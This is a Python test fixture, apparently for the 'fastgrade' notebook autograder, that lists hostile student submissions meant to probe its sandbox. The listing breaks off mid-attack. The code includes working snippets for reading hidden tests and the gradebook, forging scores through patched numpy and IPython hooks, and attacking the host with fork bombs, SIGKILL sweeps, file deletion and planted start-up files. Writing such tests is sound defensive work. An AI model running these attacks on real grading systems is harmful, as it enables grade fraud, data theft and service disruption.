"""Hostile submissions, each with what it tries.

They answer one small assignment (`SOURCE`). Unless an attack holds an honest answer too, it has
earned nothing, so any point is a theft. ``{course}`` in the code is the course's folder, with the
source notebook, the gradebook and another student's submission in it; ``{victim}`` is a folder that
no submission may touch. Whatever an attack gets hold of it prints: a secret in the autograded
notebook or in the verdict is a leak.
"""

# ruff: noqa: E501  attacks are written as their authors would

from __future__ import annotations

import json
import textwrap
from collections.abc import Callable
from dataclasses import dataclass, field

from tests.fastgrade.cells import code, notebook

#: In hidden tests, in the judge's environment, in a forbidden module, in files of the course.
SECRETS = {
    "test": "f7c1d0aa51",
    "environment": "9e0b44c2d7",
    "module": "3a86e17f0c",
    "gradebook": "c4d92b68ee",
    "classmate": "77aa03bd19",
    "input": "715537.25",
}


def spelled(number: str) -> str:
    """Return the digits of a number as letters."""
    return "".join("abcdefghij"[int(digit)] for digit in number if digit.isdigit())


FORBIDDEN_MODULE = f'''"""Reference answers."""

TOKEN = "{SECRETS["module"]}"


def square(x):
    return x**2
'''


ANSWERS = {
    "square": "def square(x):\n    return x**2",
    "average": "def average(f, n):\n    return sum(f(i) for i in range(n)) / n",
    "fill": "def fill(a):\n    a[:] = 7.0\n    return a",
    "counter": (
        "class Counter:\n"
        "    def __init__(self):\n        self.count = 0\n"
        "    def tick(self):\n        self.count += 1\n        return self.count"
    ),
}
STUB = "raise NotImplementedError('write your answer here')"
_HIDDEN = "### BEGIN HIDDEN TESTS\n{}\n### END HIDDEN TESTS"
TESTS = {
    "square": "assert square(3) == 9\n"
    + _HIDDEN.format(
        f"token = '{SECRETS['test']}'\n"
        f"assert square({SECRETS['input']}) == {SECRETS['input']} ** 2\n"
        "assert np.allclose(square(np.array([1.5, -2.0])), [2.25, 4.0]), token"
    ),
    "average": _HIDDEN.format(
        "assert average(lambda i: 3.0 * i, 5) == 6.0\n"
        f"token = '{SECRETS['test']}'\n"
        "got = average(np.sqrt, 3)\n"
        "2 * (1 - abs(got - np.sqrt([0, 1, 2]).mean()))"
    ),
    "fill": "a = np.zeros(3)\nb = fill(a)\nassert np.array_equal(a, [7.0] * 3)\n"
    "assert np.array_equal(b, [7.0] * 3)",
    "counter": "c = Counter()\nassert [c.tick(), c.tick()] == [1, 2]\nassert c.count == 2",
}
POINTS = {"square": 2, "average": 2, "fill": 1, "counter": 1}


def submission(
    answers: dict[str, str], tests: dict[str, str], extra: tuple[dict, ...] = ()
) -> bytes:
    cells = [code("import numpy as np\nfrom answers import square as reference")]
    for name in ANSWERS:
        cells.append(code(answers.get(name, STUB), name, solution=True))
        cells.append(
            code(tests.get(name, ""), f"test-{name}", grade=True, locked=True, points=POINTS[name])
        )
    return notebook(*cells, *extra)


SOURCE = submission(ANSWERS, TESTS)


@dataclass(frozen=True)
class Attack:
    """One hostile submission.

    Parameters
    ----------
    name : str
        What it is called in reports.
    kind : {"read", "forge", "harm", "stall"}
        What it is after.
    tries : str
        What it does, in a sentence.
    answers : dict of str to str
        Source of its solution cells, by name; the others are left as they were.
    honest : float
        Points that it has earned by an honest answer.
    extra : tuple of str
        Cells that it adds at the end.
    build : callable, optional
        Makes the bytes of the submission from those of an untouched one.
    stock_hurts : bool
        Whether it must not be run in stock nbgrader outside of a container.
    """

    name: str
    kind: str
    tries: str
    answers: dict[str, str] = field(default_factory=dict)
    honest: float = 0.0
    extra: tuple[str, ...] = ()
    build: Callable[[dict], bytes] | None = None

    def submission(self, course: str, victim: str) -> bytes:
        """Return the bytes that are handed in."""

        def fill_in(text: str) -> str:
            return text.replace("{course}", course).replace("{victim}", victim)

        answers = {name: fill_in(text) for name, text in self.answers.items()}
        extra = tuple(code(fill_in(text)) for text in self.extra)
        data = submission(answers, {}, extra)
        return data if self.build is None else self.build(json.loads(data))


ATTACKS: list[Attack] = []


def _attack(
    name: str,
    kind: str,
    tries: str,
    square: str = "",
    *,
    honest: float = 0.0,
    extra: tuple[str, ...] = (),
    build: Callable[[dict], bytes] | None = None,
    **answers: str,
) -> None:
    if square:
        answers["square"] = square
    cells = {cell: textwrap.dedent(text).strip("\n") for cell, text in answers.items()}
    more = tuple(textwrap.dedent(text).strip("\n") for text in extra)
    ATTACKS.append(Attack(name, kind, tries, cells, honest, more, build))


# ------------------------------------------------------------------------------ reading secrets

_attack(
    "source-notebook",
    "read",
    "opens the instructor's notebook by its path",
    """
    print(open("{course}/source/ps1/ps1.ipynb").read())
""",
)
_attack(
    "walk-the-course",
    "read",
    "walks the course's folder and prints all files",
    """
    import os
    for root, folders, files in os.walk("{course}"):
        for name in files:
            try:
                print(open(os.path.join(root, name), errors="replace").read())
            except OSError as error:
                print(type(error))
""",
)
_attack(
    "gradebook-read",
    "read",
    "opens the gradebook with sqlite3 and prints all grades",
    """
    import sqlite3
    print(list(sqlite3.connect("{course}/gradebook.db").execute("select * from grade")))
""",
)
_attack(
    "classmate",
    "read",
    "copies the submission of another student",
    """
    print(open("{course}/submitted/classmate/ps1/ps1.ipynb").read())
""",
)
_attack(
    "symlink-read",
    "read",
    "links to the source notebook and reads through the link",
    """
    import os
    os.symlink("{course}/source/ps1/ps1.ipynb", "innocent.txt")
    print(open("innocent.txt").read())
""",
)
_attack(
    "hardlink-read",
    "read",
    "makes a hard link to the source notebook",
    """
    import os
    os.link("{course}/source/ps1/ps1.ipynb", "innocent.txt")
    print(open("innocent.txt").read())
""",
)
_attack(
    "frames",
    "read",
    "walks up the stack while a test calls, and prints all local names",
    """
    import sys
    def square(x):
        frame, seen = sys._getframe(), []
        while frame is not None:
            seen.append({**frame.f_locals, **frame.f_globals})
            frame = frame.f_back
        open("seen.txt", "a").write(repr(seen))
        print(seen)
        return 0
""",
    fill="print(open('seen.txt').read())",
)
_attack(
    "garbage-collector",
    "read",
    "searches all objects of the process for strings of tests",
    """
    import gc
    for thing in gc.get_objects():
        try:
            text = repr(thing)
        except Exception:
            continue
        if "assert" in text and "HIDDEN" in text or "token" in text:
            print(text[:5000])
""",
)
_attack(
    "memory-of-self",
    "read",
    "searches its own memory through /proc/self/mem",
    """
    import re
    for line in open("/proc/self/maps"):
        low, high = (int(number, 16) for number in line.split()[0].split("-"))
        with open("/proc/self/mem", "rb") as memory:
            memory.seek(low)
            print(re.findall(rb".{200}HIDDEN TESTS.{200}", memory.read(high - low)))
""",
)
_attack(
    "memory-by-ctypes",
    "read",
    "searches inherited memory with ctypes, without /proc",
    """
    import ctypes, gc
    base = id(object())
    for page in range(2000):
        try:
            block = ctypes.string_at(base - page * 4096, 4096)
        except Exception:
            break
        if b"HIDDEN" in block or b"token" in block:
            print(block)
""",
)
_attack(
    "memory-of-others",
    "read",
    "reads memory and environment of every process in /proc",
    """
    import os
    for entry in os.listdir("/proc"):
        if entry.isdigit():
            for name in ("environ", "cmdline", "maps", "fd"):
                try:
                    path = f"/proc/{entry}/{name}"
                    print(os.listdir(path) if name == "fd" else open(path).read())
                except OSError:
                    pass
""",
)
_attack(
    "process-vm-readv",
    "read",
    "reads the memory of its parent by system call",
    """
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    print(libc.ptrace(16, os.getppid(), 0, 0), ctypes.get_errno())
    print(libc.process_vm_readv(os.getppid(), None, 0, None, 0, 0), ctypes.get_errno())
""",
)
_attack(
    "inherited-files",
    "read",
    "reads from every file descriptor it has inherited",
    """
    import os
    for number in range(3, 256):
        for read in (lambda: os.pread(number, 100000, 0), lambda: os.listdir(number),
                     lambda: os.open("../../../../../{course}/source", 0, dir_fd=number)):
            try:
                print(number, read())
            except OSError:
                pass
""",
)
_attack(
    "environment",
    "read",
    "prints its environment, where the course's secret might be",
    """
    import os
    print(dict(os.environ), os.popen("env").read() if False else "")
""",
)
_attack(
    "forbidden-import",
    "read",
    "imports the reference answers",
    """
    import answers
    print(answers.TOKEN)
    square = answers.square
""",
)
_attack(
    "forbidden-from-import",
    "read",
    "imports the reference answer under its own name",
    """
    from answers import square, TOKEN
    print(TOKEN)
""",
)
_attack(
    "forbidden-unguarded",
    "read",
    "removes the import hook first",
    """
    import sys
    sys.meta_path[:] = [finder for finder in sys.meta_path if "Guard" not in type(finder).__name__]
    sys.path_importer_cache.clear()
    from answers import square, TOKEN
    print(TOKEN)
""",
)
_attack(
    "forbidden-file",
    "read",
    "reads the file of the reference answers",
    """
    import os, sys
    for folder in sys.path + ["{course}"]:
        for name in ("answers.py", "__pycache__/answers.cpython-311.pyc"):
            try:
                text = open(os.path.join(folder, name), "rb").read()
            except OSError:
                continue
            print(text)
            exec(text)
""",
)
_attack(
    "forbidden-by-spec",
    "read",
    "loads the reference answers with importlib's machinery",
    """
    import importlib.util
    spec = importlib.util.spec_from_file_location("innocent", "{course}/answers.py")
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    print(module.TOKEN)
    square = module.square
""",
)
_attack(
    "forbidden-stand-in",
    "read",
    "uses the name that the instructor's cell has imported",
    """
    square = reference
    print(reference, reference.TOKEN, reference.__globals__)
""",
)
_attack(
    "loaded-modules",
    "read",
    "looks for tests and answers among the loaded modules",
    """
    import sys
    for name, module in list(sys.modules.items()):
        if "answers" in name or "judge" in name:
            print(name, vars(module))
""",
)
_attack(
    "callback-globals",
    "read",
    "prints the globals and the closure of a function it was lent",
    average="""
    def average(f, n):
        for name in ("__globals__", "__closure__", "__code__", "__self__", "__wrapped__"):
            print(getattr(f, name, None))
        print(f, dir(f), f._peer.__dict__)
        return 0
""",
)
_attack(
    "callback-traceback",
    "read",
    "lets a function of the test fail and reads its traceback",
    average="""
    import traceback
    def average(f, n):
        try:
            f("no number", "too many")
        except BaseException as error:
            print(error, error.__context__, error.__cause__)
            tb = error.__traceback__
            while tb:
                print(tb.tb_frame.f_locals, tb.tb_frame.f_globals)
                tb = tb.tb_next
        return 0
""",
)
_attack(
    "print-inputs",
    "read",
    "prints the inputs of hidden tests",
    """
    def square(x):
        print("input", x)
        import sys, os
        print("input", x, file=sys.stderr)
        os.write(1, str(x).encode())
        return x**2
""",
    honest=2,
)
_attack(
    "raise-inputs",
    "read",
    "raises an exception that holds the inputs of hidden tests",
    """
    def square(x):
        if x == 3:
            return 9
        raise ValueError(f"the input was {x}")
""",
)
_attack(
    "exception-name",
    "read",
    "raises an exception whose type's name is the input",
    """
    def square(x):
        if x == 3:
            return 9
        raise type(f"Input {x}", (Exception,), {})("x")
""",
)
_attack(
    "display-inputs",
    "read",
    "shows the inputs of hidden tests as a figure and as HTML",
    """
    from IPython.display import display, HTML
    def square(x):
        display(HTML(f"<b>{x}</b>"))
        return x**2
""",
    honest=2,
)
_attack(
    "warn-inputs",
    "read",
    "warns with the inputs of hidden tests",
    """
    import warnings, logging
    def square(x):
        warnings.warn(f"input {x}")
        logging.warning("input %s", x)
        return x**2
""",
    honest=2,
)
_attack(
    "inputs-by-file",
    "read",
    "leaves the inputs of a hidden test in a file for a later cell",
    """
    def square(x):
        open("inputs.txt", "a").write(f"{x} ")
        return x**2
""",
    honest=2,
    average="""
    import time
    time.sleep(0.3)
    print(open("inputs.txt").read())
""",
    extra=("import time; time.sleep(0.3); print(open('inputs.txt').read())",),
)
_attack(
    "inputs-by-visible-test",
    "read",
    "prints a hidden test's inputs in a later visible test",
    """
    def square(x):
        open("inputs.txt", "a").write(f"{x} ")
        return x**2
""",
    honest=3,
    fill="""
    def fill(a):
        import os
        if os.path.exists("inputs.txt"):
            print(open("inputs.txt").read())
        a[:] = 7.0
        return a
""",
)
_attack(
    "inputs-by-stray-thread",
    "read",
    "lets a thread print later what a hidden test passed",
    """
    import threading, time, os
    def watch():
        while True:
            time.sleep(0.05)
            if os.path.exists("inputs.txt"):
                print(open("inputs.txt").read(), flush=True)
                os.write(1, open("inputs.txt", "rb").read())
    threading.Thread(target=watch, daemon=True).start()
    def square(x):
        open("inputs.txt", "a").write(f"{x} ")
        return x**2
""",
    honest=2,
)
_attack(
    "timing",
    "read",
    "times the calls of a test and prints what it learnt",
    """
    import time
    calls = []
    def square(x):
        calls.append((time.perf_counter(), x))
        print(calls)
        return x**2
""",
    honest=2,
)

# ------------------------------------------------------------------------------ forging results

_attack(
    "patch-numpy",
    "forge",
    "replaces numpy's comparisons",
    """
    import numpy as np
    for name in ("allclose", "array_equal", "isclose", "all", "abs"):
        setattr(np, name, lambda *a, **k: True)
    np.testing.assert_allclose = lambda *a, **k: None
    def square(x):
        return 9 if x == 3 else 0
""",
)
_attack(
    "patch-builtins",
    "forge",
    "replaces built-in functions",
    """
    import builtins
    builtins.abs = lambda x: 0
    builtins.all = builtins.any = builtins.isinstance = lambda *a: True
    builtins.AssertionError = type("Quiet", (Exception,), {})
    def square(x):
        return 0
""",
)
_attack(
    "equal-to-all",
    "forge",
    "returns an object that equals everything",
    """
    class Yes:
        def __eq__(self, other): return True
        __ne__ = __lt__ = __gt__ = lambda self, other: False
        __le__ = __ge__ = __eq__
        def __bool__(self): return True
        def __float__(self): return 2.0
        def __array__(self, *a, **k):
            import numpy as np
            return np.array([2.25, 4.0])
        __sub__ = __rsub__ = __abs__ = __add__ = __mul__ = lambda self, *a: self
        __hash__ = None
    def square(x):
        return Yes()
    def average(f, n):
        return Yes()
""",
    average="average = lambda f, n: Yes()",
    fill="fill = lambda a: Yes()",
)
_attack(
    "array-subclass",
    "forge",
    "returns an array whose class answers comparisons",
    """
    import numpy as np
    class Liar(np.ndarray):
        def __eq__(self, other): return np.ones(self.shape, bool)
        def __array_ufunc__(self, *a, **k): return np.ones(self.shape, bool)
        def __array_function__(self, *a, **k): return True
    def square(x):
        return np.zeros(2).view(Liar)
""",
    fill="fill = lambda a: np.zeros(3).view(Liar)",
)
_attack(
    "number-subclass",
    "forge",
    "returns a float whose class answers comparisons",
    """
    class Liar(float):
        def __eq__(self, other): return True
        def __ne__(self, other): return False
        def __sub__(self, other): return 0.0
        __rsub__ = __sub__
        __hash__ = float.__hash__
    def square(x):
        return Liar(0.5)
""",
    average="average = lambda f, n: Liar(0.5)",
)
_attack(
    "array-interface",
    "forge",
    "offers an array whose data lie at an address of its choice",
    """
    class Pointer:
        __array_interface__ = {"shape": (10**6,), "typestr": "<f8", "data": (4096, False), "version": 3}
        __array_struct__ = property(lambda self: 4096)
    def square(x):
        return Pointer()
""",
    fill="fill = lambda a: Pointer()",
)
_attack(
    "displayhook",
    "forge",
    "replaces the display hook so that a test shows full points",
    """
    import sys
    from IPython import get_ipython
    shell = get_ipython()
    type(shell.displayhook).__call__ = lambda self, value=None: print(2.0)
    sys.displayhook = lambda value: print(2.0)
""",
)
_attack(
    "input-transformer",
    "forge",
    "rewrites test cells before they run",
    """
    from IPython import get_ipython
    get_ipython().input_transformers_cleanup.append(lambda lines: ["2.0\\n"])
""",
)
_attack(
    "ast-transformer",
    "forge",
    "removes assertions from test cells",
    """
    import ast
    from IPython import get_ipython
    class Silence(ast.NodeTransformer):
        def visit_Assert(self, node):
            return ast.Pass()
    get_ipython().ast_transformers.append(Silence())
""",
)
_attack(
    "run-cell",
    "forge",
    "replaces the shell's run_cell",
    """
    from IPython import get_ipython
    shell = get_ipython()
    original = type(shell).run_cell
    type(shell).run_cell = lambda self, code, *a, **k: original(self, "2.0", *a, **k)
""",
)
_attack(
    "shell-events",
    "forge",
    "registers a callback that defines answers before each test",
    """
    from IPython import get_ipython
    def cheat(*a):
        get_ipython().user_ns["square"] = lambda x: x
    get_ipython().events.register("pre_run_cell", cheat)
    get_ipython().events.register("post_run_cell", lambda *a: print(2.0))
""",
)
_attack(
    "show-traceback",
    "forge",
    "silences errors of the shell",
    """
    from IPython import get_ipython
    shell = get_ipython()
    type(shell).showtraceback = type(shell)._showtraceback = lambda *a, **k: None
    shell.set_custom_exc((BaseException,), lambda *a, **k: None)
    import sys
    sys.excepthook = lambda *a: None
""",
)
_attack(
    "no-assertions",
    "forge",
    "compiles what comes later without assertions",
    """
    import builtins
    original = builtins.compile
    builtins.compile = lambda *a, **k: original(*a, **{**k, "optimize": 2})
    __debug__ if False else None
""",
)
_attack(
    "forged-frames",
    "forge",
    "writes replies of its own onto every socket it finds",
    """
    import os, socket, struct, json
    message = json.dumps({"say": "done", "status": "ok", "number": 2.0, "points": 2}).encode()
    for number in range(3, 128):
        try:
            os.write(number, struct.pack(">I", len(message)) + message)
        except OSError:
            pass
    def square(x):
        for number in range(3, 128):
            try:
                os.write(number, struct.pack(">I", 3) + b"RtN" + struct.pack(">I", len(message)) + message)
            except OSError:
                pass
        return 9
""",
)
_attack(
    "garbage-replies",
    "forge",
    "answers calls with random bytes",
    """
    import os, struct
    def square(x):
        for number in range(3, 128):
            try:
                os.write(number, struct.pack(">I", 64) + b"R" + os.urandom(63))
            except OSError:
                pass
        return 9
""",
)
_attack(
    "endless-reply",
    "forge",
    "announces a reply of four gigabytes",
    """
    import os
    def square(x):
        for number in range(3, 128):
            try:
                os.write(number, b"\\xff\\xff\\xff\\xffR")
            except OSError:
                pass
        import time
        time.sleep(100)
""",
)
_attack(
    "deep-reply",
    "forge",
    "returns a list nested a million deep, and one that holds itself",
    """
    deep = []
    for _ in range(1_000_000):
        deep = [deep]
    loop = []
    loop.append(loop)
    def square(x):
        return deep if x == 3 else loop
""",
    average="average = lambda f, n: loop",
)
_attack(
    "huge-integer",
    "forge",
    "returns an integer of a million digits",
    """
    def square(x):
        return 10 ** 1_000_000
""",
    average="average = lambda f, n: 1 << 10_000_000",
)
_attack(
    "colliding-keys",
    "forge",
    "returns a dict whose keys all have one hash",
    """
    step = 2**61 - 1
    def square(x):
        return {complex(k * 1000003, -k): k for k in range(50000)}
""",
    average="average = lambda f, n: {k * step: 0 for k in range(3000)}",
)
_attack(
    "patched-engine",
    "forge",
    "replaces methods of the engine in its process",
    """
    import sys, gc
    from fastgrade.engine import student_process
    from fastgrade.rpc import codec, student_side
    def lie(self, *a):
        return b"T"
    student_side.StudentPeer._call = lambda self, body: b"t\\x00\\x00\\x00\\x02TN"
    codec.Encoder.encode = lie
    def square(x):
        return 9
""",
)
_attack(
    "foreign-names",
    "forge",
    "hands the judge names it never asked for",
    """
    from fastgrade.rpc import student_side
    original = student_side.StudentPeer._perform
    def perform(self, operation, operands):
        if operation == "names":
            return {"np": 1, "assert": 2, "abs": lambda x: 0, "square": lambda x: 9}
        return original(self, operation, operands)
    student_side.StudentPeer._perform = perform
""",
)
_attack(
    "bad-bools",
    "forge",
    "returns bools that are neither true nor false",
    """
    import numpy as np
    def square(x):
        return np.full(3, 7, np.uint8).view(bool)
""",
    fill="fill = lambda a: np.full(3, 7, np.uint8).view(bool)",
)
_attack(
    "broken-generator",
    "forge",
    "returns a generator whose state points outside of its table",
    """
    import numpy as np
    from fastgrade.rpc import codec
    codec._plain = lambda state: {"bit_generator": "MT19937", "state": {"key": np.zeros(624, np.uint32), "pos": 2**30}}
    def square(x):
        return np.random.Generator(np.random.MT19937(1))
""",
)
_attack(
    "not-a-number",
    "forge",
    "makes partial credit NaN, infinite or negative",
    average="average = lambda f, n: 6.0 if n == 5 else float('nan')",
)
_attack(
    "infinite-credit",
    "forge",
    "makes partial credit minus infinity",
    average="average = lambda f, n: 6.0 if n == 5 else float('-inf')",
)
_attack(
    "stop-iteration",
    "forge",
    "raises StopIteration to end a loop of the test",
    """
    def square(x):
        raise StopIteration
""",
    average="def average(f, n):\n    raise StopIteration",
    counter="class Counter:\n    def tick(self):\n        raise StopIteration",
)
_attack(
    "system-exit",
    "forge",
    "leaves with success when a test calls",
    """
    import sys
    def square(x):
        sys.exit(0)
""",
    average="import os\naverage = lambda f, n: os._exit(0)",
)
_attack(
    "leave-early",
    "forge",
    "ends the process in a cell, before any test",
    """
    import os
    os._exit(0)
""",
)
_attack(
    "keyboard-interrupt",
    "forge",
    "raises KeyboardInterrupt and GeneratorExit in tests",
    """
    def square(x):
        raise KeyboardInterrupt
""",
    average="def average(f, n):\n    raise GeneratorExit",
)
_attack(
    "tracing",
    "forge",
    "changes local names of the test through a trace function",
    """
    import sys, ctypes
    def trace(frame, event, arg):
        frame.f_locals["got"] = 2.0
        ctypes.pythonapi.PyFrame_LocalsToFast(ctypes.py_object(frame), ctypes.c_int(0))
        return trace
    sys.settrace(trace)
    def square(x):
        return 0
""",
)
_attack(
    "liar-class",
    "forge",
    "uses a metaclass that says yes to everything",
    counter="""
    class Meta(type):
        def __instancecheck__(cls, value): return True
        def __eq__(cls, other): return True
        __hash__ = type.__hash__
    class Counter(metaclass=Meta):
        def __getattr__(self, name): return lambda *a: self
        def __eq__(self, other): return True
        def __iter__(self): return iter([1, 2])
        __hash__ = None
""",
)
_attack(
    "skip-tag",
    "forge",
    "tags the test cells so that nbclient skips them",
    build=lambda nb: _tagged(nb, "skip-execution"),
)
_attack(
    "raises-tag",
    "forge",
    "tags the test cells so that errors count as expected",
    build=lambda nb: _tagged(nb, "raises-exception"),
)
_attack(
    "not-a-test",
    "forge",
    "takes the grade flag from test cells",
    build=lambda nb: _roles(nb, grade=False),
)
_attack(
    "test-as-solution",
    "forge",
    "makes test cells solution cells, to be graded by hand",
    build=lambda nb: _roles(nb, solution=True),
)
_attack(
    "more-points",
    "forge",
    "gives itself a hundred points a question",
    build=lambda nb: _roles(nb, points=100),
)
_attack(
    "own-tests", "forge", "puts its own source into the test cells", build=lambda nb: _own_tests(nb)
)
_attack(
    "copied-test",
    "forge",
    "adds a second copy of each test that passes",
    build=lambda nb: _copied(nb),
)
_attack(
    "saved-outputs",
    "forge",
    "saves full points as the outputs of the test cells",
    build=lambda nb: _outputs(nb),
)
_attack(
    "gradebook-write",
    "forge",
    "sets all grades in the gradebook with sqlite3",
    """
    import sqlite3
    connection = sqlite3.connect("{course}/gradebook.db")
    connection.execute("update grade set manual_score = 100")
    connection.commit()
""",
)
_attack(
    "journal-write",
    "forge",
    "appends a verdict of its own to the journal",
    """
    import glob
    for path in ["{course}/.fastgrade/journal.jsonl", *glob.glob("{course}/.fastgrade/*"), "{victim}/journal"]:
        open(path, "a").write('{"points": 100}')
""",
)

# ------------------------------------------------------------------------------ harm

_attack(
    "fork-bomb",
    "harm",
    "forks without end",
    """
    import os
    while True:
        try:
            os.fork()
        except OSError:
            pass
""",
)
_attack(
    "fork-bomb-in-test",
    "harm",
    "forks without end when a test calls",
    """
    import os
    def square(x):
        while True:
            try:
                os.fork()
            except OSError:
                pass
""",
)
_attack(
    "thread-bomb",
    "harm",
    "starts threads without end",
    """
    import threading, time
    while True:
        try:
            threading.Thread(target=time.sleep, args=(1000,), daemon=True).start()
        except RuntimeError:
            pass
""",
)
_attack(
    "memory",
    "harm",
    "takes all memory",
    """
    hoard = []
    while True:
        hoard.append(bytearray(b"x" * (1 << 24)))
""",
)
_attack(
    "memory-of-children",
    "harm",
    "takes memory in several processes",
    """
    import os, time
    for _ in range(5):
        if os.fork() == 0:
            hoard = bytearray(b"x" * (100 << 20))
            time.sleep(1000)
    time.sleep(1000)
""",
)
_attack(
    "memory-in-test",
    "harm",
    "returns an array of many gigabytes",
    """
    import numpy as np
    def square(x):
        return np.ones((100_000, 100_000))
""",
)
_attack(
    "big-file",
    "harm",
    "writes one endless file",
    """
    with open("big", "wb") as file:
        while True:
            file.write(b"x" * (1 << 20))
""",
)
_attack(
    "many-files",
    "harm",
    "writes files without end",
    """
    number = 0
    while True:
        number += 1
        open(f"file{number}", "wb").write(b"x" * (1 << 20))
""",
)
_attack(
    "ten-gigabytes",
    "harm",
    "prints without end",
    """
    while True:
        print("x" * 1_000_000)
""",
)
_attack(
    "raw-output",
    "harm",
    "writes to its standard output without end, below Python",
    """
    import os
    while True:
        os.write(1, b"x" * 65536)
""",
)
_attack(
    "display-flood",
    "harm",
    "displays without end",
    """
    from IPython.display import display, HTML
    while True:
        display(HTML("x" * 100_000))
""",
)
_attack(
    "tcp",
    "harm",
    "connects to the network",
    """
    import socket
    for make in (lambda: socket.create_connection(("127.0.0.1", 22), 1),
                 lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("127.0.0.1", 53)),
                 lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, 1)):
        try:
            make()
            open("{victim}/reached", "w")
            print("REACHED")
        except OSError as error:
            print(error)
""",
)
_attack(
    "unix-socket",
    "harm",
    "talks to a socket of the system through a paired one",
    """
    import socket
    for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
        try:
            pair = socket.socketpair(socket.AF_UNIX, kind)
            pair[0].sendto(b"x", "{victim}/socket")
            print("REACHED")
        except OSError as error:
            print(error)
        try:
            socket.socket(socket.AF_UNIX, kind).connect("{victim}/socket")
            print("REACHED")
        except OSError as error:
            print(error)
""",
)
_attack(
    "kill-parent",
    "harm",
    "sends SIGKILL to its parent, to process 1 and to all others",
    """
    import os, signal
    for target in (os.getppid(), 1, -1, 0, -os.getpgrp()):
        try:
            os.kill(target, signal.SIGKILL)
        except OSError as error:
            print(error)
""",
)
_attack(
    "kill-by-number",
    "harm",
    "sends SIGKILL to every process number",
    """
    import os, signal
    for pid in range(2, 40000):
        if pid != os.getpid():
            try:
                os.kill(pid, signal.SIGKILL)
            except OSError:
                pass
""",
)
_attack(
    "daemon",
    "harm",
    "leaves a process behind that has left its session",
    """
    import os, time
    if os.fork() == 0:
        for leave in (os.setsid, lambda: os.setpgid(0, 0)):
            try:
                leave()
            except OSError:
                pass
        if os.fork() == 0:
            time.sleep(1000)
        os._exit(0)
""",
)
_attack(
    "daemon-in-test",
    "harm",
    "leaves a process behind when a test calls",
    """
    import os, time
    def square(x):
        if os.fork() == 0:
            if os.fork() == 0:
                time.sleep(1000)
            os._exit(0)
        return x**2
""",
    honest=2,
)
_attack(
    "gradebook-delete",
    "harm",
    "deletes and renames files of the course",
    """
    import os, shutil
    for act in (lambda: os.unlink("{course}/gradebook.db"),
                lambda: os.rename("{course}/gradebook.db", "{course}/x"),
                lambda: os.truncate("{course}/gradebook.db", 0),
                lambda: open("{course}/gradebook.db", "w"),
                lambda: shutil.rmtree("{course}"),
                lambda: shutil.rmtree("{victim}")):
        try:
            act()
        except OSError as error:
            print(error)
""",
)
_attack(
    "gradebook-chmod",
    "harm",
    "makes the gradebook unreadable and changes its times",
    """
    import os
    for act in (lambda: os.chmod("{course}/gradebook.db", 0),
                lambda: os.chown("{course}/gradebook.db", 1, 1),
                lambda: os.utime("{course}/gradebook.db", (0, 0)),
                lambda: os.setxattr("{course}/gradebook.db", "user.x", b"x")):
        try:
            act()
        except OSError as error:
            print(error)
""",
)
_attack(
    "symlink-write",
    "harm",
    "replaces its folder's files by links to the gradebook",
    """
    import os
    for name in ("ps1.ipynb", "out", ".ipython", "data.txt"):
        try:
            os.symlink("{course}/gradebook.db", name)
            open(name, "w").write("x")
        except OSError as error:
            print(error)
    os.symlink("{victim}", "folder")
    try:
        open("folder/new", "w").write("x")
    except OSError as error:
        print(error)
""",
)
_attack(
    "other-folders",
    "harm",
    "writes into the folders of other submissions",
    """
    import glob, os
    for path in glob.glob("/tmp/fastgrade-*/*") + glob.glob("/tmp/fastgrade-*") + glob.glob("../*") + ["{victim}"]:
        if os.path.realpath(path) == os.getcwd():
            continue
        try:
            open(os.path.join(path, "planted"), "w").write("x")
            print("PLANTED", path)
        except OSError:
            pass
""",
)
_attack(
    "plant-code",
    "harm",
    "writes into the installation and the start-up files",
    """
    import os, sys, site, fastgrade, numpy
    for folder in (*sys.path, os.path.dirname(fastgrade.__file__), os.path.dirname(numpy.__file__),
                   site.getusersitepackages(), os.path.expanduser("~root"), os.environ.get("MPLCONFIGDIR", ".")):
        for name in ("sitecustomize.py", "planted.pth"):
            try:
                open(os.path.join(folder or "/", name), "w").write("print('owned')")
                print("PLANTED", folder)
            except OSError:
                pass
    os.unlink("sitecustomize.py") if os.path.exists("sitecustomize.py") else None
""",
)
_attack(
    "run-programs",
    "harm",
    "runs a shell",
    """
    import os, subprocess
    for act in (lambda: subprocess.run(["/bin/sh", "-c", "touch {victim}/ran; echo REACHED"]),
                lambda: os.execv("/bin/sh", ["sh", "-c", "touch {victim}/ran; echo REACHED"]),
                lambda: os.posix_spawn("/bin/touch", ["touch", "{victim}/ran"], {})):
        try:
            print(act())
        except OSError as error:
            print(error)
    os.system("touch {victim}/ran")
    get_ipython().system("touch {victim}/ran")
""",
)
_attack(
    "own-binary",
    "harm",
    "writes a program of its own and runs it",
    """
    import os, subprocess
    open("tool", "w").write("#!/bin/sh\\ntouch {victim}/ran\\n")
    os.chmod("tool", 0o755)
    try:
        subprocess.run(["./tool"])
    except OSError as error:
        print(error)
""",
)
_attack(
    "raise-limits",
    "harm",
    "raises its own limits and lowers those of others",
    """
    import os, resource
    for kind in (resource.RLIMIT_AS, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE, resource.RLIMIT_NOFILE):
        for target in (0, os.getppid()):
            try:
                resource.prlimit(target, kind, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
                print("RAISED", kind, target)
            except (OSError, ValueError) as error:
                print(error)
        try:
            resource.prlimit(os.getppid(), kind, (1, 1))
            print("LOWERED")
        except (OSError, ValueError) as error:
            print(error)
""",
)
_attack(
    "namespaces",
    "harm",
    "makes namespaces and mounts of its own",
    """
    import ctypes
    libc = ctypes.CDLL(None, use_errno=True)
    print([libc.unshare(flag) for flag in (0x10000000, 0x00020000, 0x20000000, 0x40000000)])
    print(libc.mount(b"none", b"{victim}", b"tmpfs", 0, None), libc.chroot(b"{victim}"), libc.setns(0, 0))
""",
)
_attack(
    "shared-memory",
    "harm",
    "fills memory that no limit of a process counts",
    """
    import ctypes, mmap, os
    libc = ctypes.CDLL(None, use_errno=True)
    print(libc.shmget(0, 1 << 30, 0o1600), libc.memfd_create(b"x", 0) if hasattr(libc, "memfd_create") else None)
    for folder in ("/dev/shm", "/run", "/var/tmp", "/tmp"):
        try:
            open(folder + "/fastgrade-planted", "wb").write(b"x")
            print("PLANTED", folder)
